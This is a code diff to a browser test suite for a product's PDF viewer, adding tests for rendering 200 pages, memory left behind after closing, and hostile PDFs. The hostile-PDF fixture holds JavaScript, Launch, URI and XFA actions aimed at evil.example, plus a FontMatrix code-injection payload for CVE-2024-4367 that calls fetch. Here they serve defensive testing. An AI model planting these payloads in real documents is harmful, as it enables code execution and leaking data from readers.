@@ -1,4 +1,5 @@
 // PDFs in a real browser, under the page's own policy: what is painted, what is given back, what is refused (CHAT-03).
+import { readdir, readFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { build } from 'esbuild';
@@ -6,30 +7,45 @@ import type { Page } from 'playwright-core';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { sharedOptions } from '../../scripts/build/bundle.ts';
-import { bundlePdf } from '../../scripts/build/pdf.ts';
 import { contentSecurityPolicy } from '../../server/http/security-headers.ts';
 import { closeBrowser, openPhone } from '../support/chromium.ts';
-import { makePdf, type PageMade } from './pdf-maker.ts';
+import { makePdf, type PageMade, type PdfMade } from './pdf-maker.ts';
 
 const HOME = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
+/** Nothing is written there; it only gives the names. */
 const OUT = join(HOME, '.cache', 'pdf-page');
+const ASSETS = join(HOME, 'dist', 'assets');
 const ORIGIN = 'https://pdf.test';
 const TYPES: Readonly<Record<string, string>> = { js: 'text/javascript', css: 'text/css' };
 
+/** The reader's worker and its fonts as the product has them, below /assets/: to make them anew takes a quarter of a minute. */
+async function readerFiles(): Promise<Map<string, Buffer>> {
+  const names = await readdir(ASSETS, { recursive: true });
+  const wanted = names.filter((name) => /^pdf-(worker-[^/\\]*\.js|fonts-.*[/\\].*)$/.test(name));
+  const files = new Map<string, Buffer>();
+  for (const name of wanted)
+    files.set(`/assets/${name.replaceAll('\\', '/')}`, await readFile(join(ASSETS, name)));
+  return files;
+}
+
 /** The page's files by their path, built as the product is. */
 async function buildPage(): Promise<Map<string, Buffer>> {
-  const context = { packages: HOME, out: OUT, define: {} };
-  const pdf = await bundlePdf(context, join(HOME, 'src', 'platform', 'pdf-worker.ts'));
+  const files = await readerFiles();
+  const worker = [...files.keys()].find((path) => path.includes('/pdf-worker-'));
+  const font = [...files.keys()].find((path) => path.includes('/pdf-fonts-'));
+  if (!worker || !font) throw new Error(`no reader of PDFs in ${ASSETS}: npm run build`);
+  const define = {
+    __PDF_WORKER_URL__: JSON.stringify(worker),
+    __PDF_FONTS_URL__: JSON.stringify(font.replace(/[^/]*$/, '')),
+  };
   const { outputFiles = [] } = await build({
-    ...sharedOptions({ ...context, define: pdf.define }),
+    ...sharedOptions({ packages: HOME, out: OUT, define }),
     entryPoints: { page: join(HOME, 'test', 'browser', 'pdf-page.tsx') },
     entryNames: '[name]',
     format: 'esm',
     splitting: true,
     sourcemap: false,
   });
-  const files = new Map<string, Buffer>();
-  for (const { path, contents } of pdf.files) files.set(`/${path}`, Buffer.from(contents));
   for (const { path, contents } of outputFiles) files.set(path.slice(OUT.length), Buffer.from(contents));
   return files;
 }
@@ -183,6 +199,107 @@ test('CHAT-03 what cannot be shown says why: damaged, with a password, more than
   await painted(page, 1);
   assert.is(await page.locator('[data-page]').count(), 200);
   assert.equal(complaints, []);
+  await page.context().close();
+});
+
+test('CHAT-03 the last of 200 pages is painted as the first, with a handful of canvases at a time', async () => {
+  const { page, show, complaints } = await open();
+  const colorOf = (number: number): PageMade['color'] => COLORS[number % COLORS.length] ?? [0, 0, 0];
+  await show(
+    makePdf(Array.from({ length: 200 }, (_, at) => ({ color: colorOf(at + 1), text: `Page ${at + 1}` }))),
+  );
+  await painted(page, 1);
+  for (const number of [1, 100, 200]) {
+    await page.evaluate(`document.querySelector('[data-page="${number}"]').scrollIntoView()`);
+    await painted(page, number);
+    const { middle } = (await pixels(page, number)) as { middle: unknown };
+    assert.equal(
+      middle,
+      colorOf(number).map((share) => share * 255),
+      `page ${number}`,
+    );
+    await page.waitForFunction(() => document.querySelectorAll('canvas').length <= 5);
+  }
+  assert.equal(complaints, []);
+  await page.context().close();
+});
+
+/** Everything of which a PDF can be made to act: scripts, addresses, forms, files elsewhere, code in a font's matrix. */
+const HOSTILE: PdfMade = {
+  catalog: [
+    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);globalThis.isHacked=1) >>',
+    '/AA << /WC << /S /URI /URI (https://evil.example/close) >> >>',
+    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (globalThis.isHacked=1) >>] >> >>',
+    '/AcroForm << /XFA [(template) << /F (https://evil.example/xfa) >>] /Fields [] >>',
+    '/URI << /Base (https://evil.example/) >>',
+  ].join(' '),
+  page: [
+    '/AA << /O << /S /Launch /F (https://evil.example/launch) >> >>',
+    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 900] /A << /S /URI /URI (https://evil.example/link) >> >>',
+    '<< /Type /Annot /Subtype /Screen /Rect [0 0 600 900] /AA << /PV << /S /URI /URI (https://evil.example/seen) >> >> >>]',
+  ].join(' '),
+  // CVE-2024-4367.
+  font: '/FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.isHacked = 1; fetch\\("https://evil.example/font"\\); //)]',
+};
+
+test('CHAT-03 a PDF that wants to act is only painted: nothing runs, nothing is asked for but our own files', async () => {
+  const { page, show, asked, complaints } = await open();
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await show(makePdf(FIVE, HOSTILE));
+  await painted(page, 1);
+  const { middle } = (await pixels(page, 1)) as { middle: unknown };
+  assert.equal(middle, [255, 0, 0]);
+  // A tap where the link is, and leaving, are what its actions wait for.
+  await page.locator('[data-page="1"]').click({ position: { x: 180, y: 250 } });
+  const workers = await Promise.all(page.workers().map((worker) => worker.evaluate('typeof isHacked')));
+  await page.evaluate('leave()');
+  await page.waitForFunction(() => document.querySelector('canvas') === null);
+  assert.equal([await page.evaluate('typeof isHacked'), ...workers], ['undefined', 'undefined']);
+  assert.equal(dialogs, []);
+  assert.is(page.url(), `${ORIGIN}/`);
+  const ours = /^\/((page|pdf)[\w.-]*\.(js|css)|pdf-fonts-[\w./-]*)?$|^\/assets\//;
+  assert.equal(
+    asked.filter((path) => !ours.test(path)),
+    [],
+  );
+  assert.equal(complaints, []);
+  await page.context().close();
+});
+
+test('CHAT-03 after closing, the page holds no more than before: within 10 MB, whatever was shown', async () => {
+  const { page, show } = await open();
+  const session = await page.context().newCDPSession(page);
+  await session.send('HeapProfiler.enable');
+  const used = async (): Promise<number> => {
+    await session.send('HeapProfiler.collectGarbage');
+    const { usedSize } = await session.send('Runtime.getHeapUsage');
+    return usedSize;
+  };
+  const look = async (made: readonly PageMade[], at: number): Promise<void> => {
+    await show(makePdf(made));
+    await page.waitForSelector(`[data-page="${at}"]`);
+    await page.evaluate(`document.querySelector('[data-page="${at}"]').scrollIntoView()`);
+    await painted(page, at);
+    await page.evaluate('leave()');
+    await page.waitForFunction(() => document.querySelector('canvas') === null);
+  };
+  // The reader itself stays loaded: what counts is what a file leaves behind.
+  await look(FIVE, 1);
+  const before = await used();
+  for (let round = 0; round < 3; round += 1) {
+    await look(FIVE, 5);
+    await look(
+      Array.from({ length: 200 }, (): PageMade => ({ color: [0, 0, 1], text: 'x' })),
+      200,
+    );
+  }
+  const grown = (await used()) - before;
+  assert.ok(grown < 10 * 1024 * 1024, `${Math.round(grown / 1024)} kB more`);
+  assert.is(page.workers().length, 0, 'and the worker with its own heap is gone');
   await page.context().close();
 });
 
